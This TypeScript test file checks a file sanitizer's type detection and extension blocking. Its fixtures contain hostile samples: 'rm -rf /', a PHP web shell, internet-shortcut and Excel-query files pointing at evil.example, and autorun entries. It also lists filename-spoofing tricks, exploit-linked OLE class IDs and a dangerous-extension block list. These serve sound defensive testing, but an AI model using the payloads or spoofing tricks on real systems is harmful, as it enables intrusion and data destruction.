import assert from 'node:assert/strict'
import { type KnownKey, known } from '../../../sanitizer/formats/known.ts'
import { identify } from '../../../sanitizer/identify.ts'
import { defaultLimits } from '../../../sanitizer/limits.ts'
import { Refusal } from '../../../sanitizer/refusal.ts'
import { contentTypes, ole2Of, zipOf } from '../samples/containers.ts'
import { hostilePictures } from '../samples/image.ts'

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
const padded = (text: string, length = 600): Buffer => Buffer.concat([bytes(text), Buffer.alloc(length)])
const at = (offset: number, text: string): Buffer => Buffer.concat([Buffer.alloc(offset), bytes(text), Buffer.alloc(600)])
const main = (name: string): Buffer => zipOf({ '[Content_Types].xml': contentTypes(name), 'word/document.xml': '<w/>' })
const ooxml = (name: string): string => `application/vnd.openxmlformats-officedocument.${name}.main+xml`

/** [MS-DOC] §2.5.2: the word at offset 10 holds fEncrypted. */
const fib = (flags: number): Buffer => Buffer.from(Uint16Array.of(0xa5ec, 0xc1, 0, 0x0411, 0, flags, 0, 0).buffer)
/** Empty records ([MS-XLS] §2.1.4). */
const biff = (...records: readonly number[]): Buffer => Buffer.from(Uint16Array.from(records.flatMap((record) => [record, 0])).buffer)
/** [MS-PPT] §2.3.2 CurrentUserAtom, as far as its token. */
const currentUser = (token: number): Buffer => Buffer.from(Uint32Array.of(0x0ff60000, 0x14, 0x14, token).buffer)

/** Content → type, whatever it is called. */
const byContent: readonly (readonly [KnownKey, Buffer])[] = [
  ['docx', main(ooxml('wordprocessingml.document'))],
  ['docm', main('application/vnd.ms-word.document.macroEnabled.main+xml')],
  ['dotx', main(ooxml('wordprocessingml.template'))],
  ['dotm', main('application/vnd.ms-word.template.macroEnabledTemplate.main+xml')],
  ['xlsx', main(ooxml('spreadsheetml.sheet'))],
  ['xlsm', main('application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
  ['xltx', main(ooxml('spreadsheetml.template'))],
  ['xltm', main('application/vnd.ms-excel.template.macroEnabled.main+xml')],
  ['xlsb', main('application/vnd.ms-excel.sheet.binary.macroEnabled.main')],
  ['xlam', main('application/vnd.ms-excel.addin.macroEnabled.main+xml')],
  ['pptx', main(ooxml('presentationml.presentation'))],
  ['pptm', main('application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml')],
  ['potx', main(ooxml('presentationml.template'))],
  ['ppsx', main(ooxml('presentationml.slideshow'))],
  ['ppsm', main('application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml')],
  ['ppam', main('application/vnd.ms-powerpoint.addin.macroEnabled.main+xml')],
  ['ooxml', main('application/x-something')],
  ['odt', zipOf({ mimetype: 'application/vnd.oasis.opendocument.text' }, false)],
  ['ods', zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }, false)],
  ['epub', zipOf({ mimetype: 'application/epub+zip' }, false)],
  ['jar', zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: x' })],
  ['apk', zipOf({ 'AndroidManifest.xml': 'x', 'META-INF/MANIFEST.MF': 'y' })],
  ['windows-app', zipOf({ 'AppxManifest.xml': '<x/>', '[Content_Types].xml': contentTypes('x') })],
  ['zip', zipOf({ 'a.txt': 'text' })],
  ['zip', bytes(`PK\x05\x06${'\0'.repeat(18)}`)],
  ['doc', ole2Of(['WordDocument', '1Table'])],
  ['xls', ole2Of(['Workbook'])],
  ['xls', ole2Of(['Book'])],
  ['ppt', ole2Of(['Current User', 'PowerPoint Document'])],
  ['ooxml-encrypted', ole2Of(['EncryptionInfo', 'EncryptedPackage'])],
  ['ooxml-rights-managed', ole2Of(['EncryptedPackage', 'DRMEncryptedDataSpace'])],
  ['msg', ole2Of(['__nameid_version1.0', '__properties_version1.0'])],
  ['msi', ole2Of(['WordDocument'], '84100c0000000000c000000000000046')],
  ['ichitaro', ole2Of(['\x04JSRV_SegmentInformation', 'DocumentText'])],
  ['justsystem', ole2Of(['\x04JSRV_SegmentInformation', 'Figure'])],
  ['hwp', ole2Of(['FileHeader', '\x05HwpSummaryInformation'])],
  ['publisher', ole2Of(['Contents', 'Quill'])],
  ['visio', ole2Of(['VisioDocument'])],
  ['ole2', ole2Of(['Something'])],
  ['doc', ole2Of([['WordDocument', fib(0x0200)]], '0609020000000000c000000000000046')],
  ['doc-encrypted', ole2Of([['WordDocument', fib(0x0300)]])],
  ['xls', ole2Of([['Workbook', biff(0x809, 0x42, 0x0a, 0x2f)]], '2008020000000000c000000000000046')],
  ['xls-encrypted', ole2Of([['Workbook', biff(0x809, 0x2f, 0x0a)]])],
  ['ppt', ole2Of(['PowerPoint Document', ['Current User', currentUser(0xe391c05f)]], '108d81649b4fcf1186ea00aa00b929e8')],
  ['ppt-encrypted', ole2Of(['PowerPoint Document', ['Current User', currentUser(0xf3d1c4df)]])],
  ['ppt-encrypted', ole2Of(['PowerPoint Document', 'EncryptedSummary'])],
  ['works', ole2Of(['MatOST'])],
  ['project', ole2Of(['Props12'])],
  ['pdf', bytes('%PDF-1.7\n')],
  ['pdf', bytes(`${'junk '.repeat(100)}%PDF-1.4\n`)],
  ['pe-executable', padded('MZ\x90\0\x03\0\0\0')],
  ['elf-executable', padded('\x7fELF\x02\x01')],
  ['macho-executable', padded('\xcf\xfa\xed\xfe')],
  ['lnk', padded('L\0\0\0\x01\x14\x02\0')],
  ['iso', at(0x8001, 'CD001')],
  ['vhd', Buffer.concat([Buffer.alloc(1024), bytes('conectix'), Buffer.alloc(504)])],
  ['dmg', Buffer.concat([Buffer.alloc(1024), bytes('koly'), Buffer.alloc(508)])],
  ['7z', padded('7z\xbc\xaf\x27\x1c')],
  ['rar', padded('Rar!\x1a\x07\x01\0')],
  ['lzh', padded('\x22\x80-lh5-')],
  ['gzip', padded('\x1f\x8b\x08')],
  ['tar', at(257, 'ustar\x0000')],
  ['cab', padded('MSCF\0\0\0\0')],
  ['chm', padded('ITSF\x03\0\0\0')],
  ['onenote', Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64)])],
  ['access', at(4, 'Standard Jet DB')],
  ['font', padded('\0\x01\0\0\0\x0e')],
  ['swf', padded('CWS\x0a\x10\x10\0\0')],
  ['heic', padded('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
  ['avif', padded('\0\0\0\x18ftypavif\0\0\0\0mif1avif')],
  ['mp4', padded('\0\0\0\x18ftypisom\0\0\x02\0isomiso2')],
  ['mov', padded('\0\0\0\x14ftypqt  ')],
  ['tiff', padded('II*\0')],
  ['bmp', padded('BM\x36\0\0\0\0\0\0\0\x36\0')],
  ['psd', padded('8BPS\0\x01')],
  ['dwg', padded('AC1032\0\0')],
  ['jww', padded('JwwData.')],
  ['wav', padded('RIFF\x24\0\0\0WAVEfmt ')],
  ['html', bytes('\r\n <!DOCTYPE html><p>x')],
  ['html', bytes('<script>alert(1)</script>')],
  ['html', bytes('\xef\xbb\xbf<!-- x --><html>')],
  ['hta', bytes('<html><HTA:APPLICATION id=x>')],
  ['svg', bytes('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b"><svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['xml', bytes('<?xml version="1.0"?><root/>')],
  [
    'flat-opc',
    bytes(
      '<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>',
    ),
  ],
  ['flat-opc', bytes("<package xmlns='http://schemas.microsoft.com/office/2006/xmlPackage'/>")],
  ['office-xml', bytes('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>')],
  ['flat-odf', bytes('<?xml version="1.0"?><office:document xmlns:office="x"/>')],
  ['windows-script', bytes('<?xml version="1.0"?><job><script language="VBScript">x</script></job>')],
  ['library-file', bytes('<?xml version="1.0"?><libraryDescription xmlns="x"/>')],
  ['rtf', bytes('{\\rtf1\\ansi')],
  ['rtf', bytes('{\\rt\\x')],
  ['mht', bytes('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x')],
  ['eml', bytes('From: a@example.jp\r\nTo: b@example.jp\r\nMIME-Version: 1.0\r\n\r\nx')],
  ['ics', bytes('BEGIN:VCALENDAR\r\n')],
  ['vcf', bytes('BEGIN:VCARD\r\n')],
  ['shell-script', bytes('#!/bin/sh\nrm -rf /')],
  ['batch', bytes('@echo off\r\ncalc')],
  ['sylk', bytes('ID;PWXL;N;E\r\n')],
  ['excel-query', bytes('WEB\r\n1\r\nhttp://evil.example/\r\n')],
  ['url', bytes('[InternetShortcut]\r\nURL=file://evil.example/x\r\n')],
  ['inf', bytes('[autorun]\r\nopen=x.exe\r\n')],
  ['registry', bytes('Windows Registry Editor Version 5.00\r\n')],
  ['sxf', bytes('ISO-10303-21;\r\nHEADER;')],
  ['dxf', bytes('  0\r\nSECTION\r\n  2\r\nHEADER')],
  ['perl', bytes('<?php system($_GET[0]); ?>')],
  ['windows-script', bytes('Set shell = CreateObject("WScript.Shell")\r\n')],
  ['powershell', bytes('$client = New-Object Net.WebClient\r\n')],
  ['javascript', bytes('var a = new ActiveXObject("x");')],
  ['postscript', bytes('%!PS-Adobe-3.0')],
  ['unknown', Buffer.from(Array.from({ length: 500 }, (_, index) => (index * 151) & 255))],
  ['unknown', Buffer.alloc(2000)],
]

/** Prose may mention anything. */
const prose: readonly string[] = [
  '本日の資料では <script> タグと #!/bin/sh、@echo off、{\\rtf、%PDF の説明をします。\n',
  'MZ世代について\n各課の担当者は…',
  '<お知らせ> 4月1日から窓口の時間が変わります。\n',
  '< 1 > 避難所の一覧\n',
  'From: 総務課\n\n各位\nMIME-Version という語も使います。\n',
  'BMI の計算について\n',
  'ID,氏名\n1,山田\n',
  'PK戦の結果\n',
  'Set menu:\nカレー\n',
  '0\n1\n2\n',
  'import 業務について\n',
  '070701 7月の予定\n',
  'Dim sum のお店\n',
]

describe('identify', () => {
  for (const [type, content] of byContent) {
    it(`${type}: ${JSON.stringify(content.toString('latin1', 0, 24))}`, async () => {
      assert.equal((await identify(content, 'x', defaultLimits)).type, type)
    })
  }

  for (const text of prose) {
    it(`plain text: ${text.trim().split('\n')[0]}`, async () => {
      const identity = await identify(Buffer.from(text), 'メモ.txt', defaultLimits)
      assert.deepEqual([identity.type, identity.extensionMatches], ['text', true])
    })
  }

  it('tells text, CSV and TSV by the name, and nothing else', async () => {
    const table = Buffer.from('名前,数\n山田,3\n')
    const names = { 'a.txt': 'text', 'a.csv': 'csv', 'A.CSV': 'csv', 'a.tsv': 'tsv', 'a.pdf': 'text', a: 'text' }
    for (const [name, type] of Object.entries(names)) assert.equal((await identify(table, name, defaultLimits)).type, type, name)
    assert.equal((await identify(table, 'a.pdf', defaultLimits)).extensionMatches, false)
    assert.equal((await identify(table, 'a', defaultLimits)).extensionMatches, false)
  })

  it('an extension of the always-block list wins over harmless content, however it is written', async () => {
    const names = [
      'a.bat',
      'a.BAT ',
      'a.bat.',
      'a.bat:stream',
      'a.txt:b.bat',
      'dir\\a.bat',
      'a.jpg                    .bat',
      'photo\u202egpj.bat',
      'ａ．ｂａｔ',
    ]
    for (const name of names) {
      for (const content of [Buffer.from('text'), Buffer.from('%PDF-1.7\n'), Buffer.from('\xff\xd8\xff\xe0', 'latin1')]) {
        const identity = await identify(content, name, defaultLimits)
        assert.deepEqual([identity.type, identity.family, identity.format], ['batch', 'script', undefined], name)
      }
    }
  })

  it('every extension of threats.md §3.8 is blocked without a format', async () => {
    const list =
      'exe dll scr pif com cpl msi msp mst msix appx jar apk bat cmd ps1 psm1 vbs vbe js jse wsf wsh wsc sct hta lnk url library-ms searchConnector-ms search-ms scf inf reg theme themepack deskthemepack rdp msc chm hlp iqy oqy slk xll xla xlam wll ppa ppam one iso img vhd settingcontent-ms appref-ms application gadget website contact group job diagcab diagcfg msu py pyc sh elf mach-o dmg pkg deb rpm ttf otf fon swf class mdb accdb accde mde ade adp laccdb xps oxps ps dwf sldm crx xpi p7m pst ost'
    for (const extension of list.split(' ').filter((each) => each !== 'mach-o')) {
      const identity = await identify(Buffer.from('harmless'), `a.${extension}`, defaultLimits)
      assert.notEqual(identity.type, 'text', extension)
      assert.equal(identity.format, undefined, extension)
    }
    for (const name of ['desktop.ini', 'AUTORUN.INF'])
      assert.equal((await identify(Buffer.from('x'), name, defaultLimits)).family, 'script')
  })

  it('a program stays a program, whatever its name', async () => {
    for (const name of ['a.jpg', 'a.txt', 'a.bat', 'a'])
      assert.equal((await identify(padded('MZ\x90\0\x03\0\0\0'), name, defaultLimits)).family, 'executable')
  })

  it('names DocuWorks and JW_CAD by their names when nothing else is known', async () => {
    const content = Buffer.concat([Buffer.from([0x60, 0x0e, 0x82]), Buffer.alloc(600, 0xfe)])
    assert.equal((await identify(content, '図面.xdw', defaultLimits)).label.ja, 'DocuWorks 文書')
    assert.equal((await identify(content, '図面.xbd', defaultLimits)).type, 'docuworks-binder')
    assert.equal((await identify(content, '図面.jwc', defaultLimits)).type, 'jwc')
    assert.equal((await identify(content, '図面.jpg', defaultLimits)).type, 'unknown')
  })

  it('reads the kind of each hostile picture from its start, and matches its extension', async () => {
    const extensions = { jpeg: 'JPG', png: 'png', gif: 'gif', webp: 'webp' }
    for (const { format, bytes: picture } of await hostilePictures()) {
      const identity = await identify(picture, `写真.${extensions[format as keyof typeof extensions]}`, defaultLimits)
      assert.deepEqual([identity.type, identity.format, identity.extensionMatches], [format, format, true])
    }
  })

  it('refuses an OLE2 document of two kinds, or of another class than its streams', async () => {
    const refused = [
      ole2Of(['WordDocument', 'Workbook']),
      ole2Of(['Workbook', 'DocumentText']),
      ole2Of(['PowerPoint Document', 'EncryptedPackage']),
      ole2Of(['WordDocument'], '4bf0d1bd8b85d111b16a00c0f0283628'), // {BDD1F04B-858B-11D1-B16A-00C0F0283628} MSCOMCTL.ListViewCtrl.2, CVE-2012-0158
      ole2Of(['WordDocument'], '2008020000000000c000000000000046'), // Excel's
      ole2Of(['Workbook'], '02ce020000000000c000000000000046'), // {0002CE02-…} the equation editor, CVE-2017-11882
    ]
    for (const sample of refused)
      await assert.rejects(
        identify(sample, 'a.doc', defaultLimits),
        (error: unknown) => error instanceof Refusal && error.code === 'ambiguous',
      )
  })

  it('refuses an empty file, and throws only for OLE2 on any start of any sample or on random bytes', async () => {
    await assert.rejects(
      identify(new Uint8Array(), 'a.txt', defaultLimits),
      (error: unknown) => error instanceof Refusal && error.code === 'file-empty',
    )
    const named = (sample: Buffer): Promise<unknown> =>
      identify(sample, 'x.bin', defaultLimits).catch((error: unknown) => {
        const isOle2 = sample.readUInt32BE(0) === 0xd0cf11e0
        assert.ok(isOle2 && error instanceof Refusal && ['malformed', 'ambiguous'].includes(error.code), String(error))
      })
    let seed = 1
    for (const [, content] of byContent) {
      for (const length of [1, 2, 7, 13, 31, 64, 200, 511, 513, 1025, content.length - 1]) {
        if (length > 0 && length <= content.length) await named(content.subarray(0, length))
      }
      const damaged = Buffer.from(content)
      for (let count = 0; count < 20; count++) {
        seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0
        damaged[seed % damaged.length] = seed >>> 24
        await named(damaged)
      }
    }
  })
})

describe('the table of known types', () => {
  it('has lower-case extensions, a label in both languages, and one always-block type per extension', () => {
    const owners = new Map<string, string>()
    for (const [key, row] of Object.entries(known)) {
      assert.ok(row.ja !== '' && row.en !== '', key)
      for (const extension of row.extensions) {
        assert.match(extension, /^[a-z0-9][a-z0-9.-]*$/, key)
        if (!row.always) continue
        assert.equal(owners.get(extension), undefined, `${extension} in ${key}`)
        owners.set(extension, key)
      }
    }
  })

  it('gives no format to what may never cross', () => {
    for (const [key, row] of Object.entries(known)) {
      if (row.always || ['executable', 'script', 'shortcut', 'disk-image', 'unknown'].includes(row.family))
        assert.equal(row.format, undefined, key)
    }
  })
})
